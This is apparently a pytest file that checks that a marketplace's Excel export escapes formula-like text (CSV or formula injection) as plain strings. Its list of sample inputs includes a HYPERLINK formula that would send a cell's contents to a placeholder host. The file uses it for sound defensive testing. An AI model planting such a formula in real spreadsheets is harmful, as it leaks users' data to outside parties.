"""Excel exports: text that a spreadsheet would run as a formula is written as text, in every
workbook we write (OWASP "CSV injection")."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook

from marketplace.services import exports

FORMULA_LIKE = ['=HYPERLINK("http://x/?leak="&B2,"x")', "+1+2", "-3+4", "@SUM(A1)", "\t=1", "\r=1"]


def _saved(wb: Workbook):
    out = io.BytesIO()
    wb.save(out)
    return load_workbook(io.BytesIO(out.getvalue())).active


@pytest.mark.parametrize("value", FORMULA_LIKE)
def test_formula_like_text_is_written_as_a_string(value):
    wb = Workbook()
    cell = exports.write_text(wb.active.cell(row=1, column=1), value)
    assert cell.data_type == "s" and cell.value == "'" + value
    read = _saved(wb)["A1"]
    assert read.data_type == "s"
    assert read.value == ("'" + value).replace("\r", "\n")  # XML reads a lone CR as LF


@pytest.mark.parametrize("value", ["正常的说明", "a=b", 5, -5, 2.5])
def test_other_values_are_written_as_they_are(value):
    wb = Workbook()
    exports.write_text(wb.active.cell(row=1, column=1), value)
    read = _saved(wb)["A1"]
    assert read.value == value
    assert read.data_type == ("s" if isinstance(value, str) else "n")  # numbers stay numbers


def test_headers_of_an_export_are_text_too():
    body = exports.workbook([("sheet", ["=1+1", "名称"], [["-2+3", 7]])])
    sheet = load_workbook(io.BytesIO(body)).active
    assert [c.value for c in sheet[1]] == ["'=1+1", "名称"]
    assert [c.value for c in sheet[2]] == ["'-2+3", 7]
    assert all(c.data_type == "s" for c in sheet[1]) and sheet["B2"].data_type == "n"
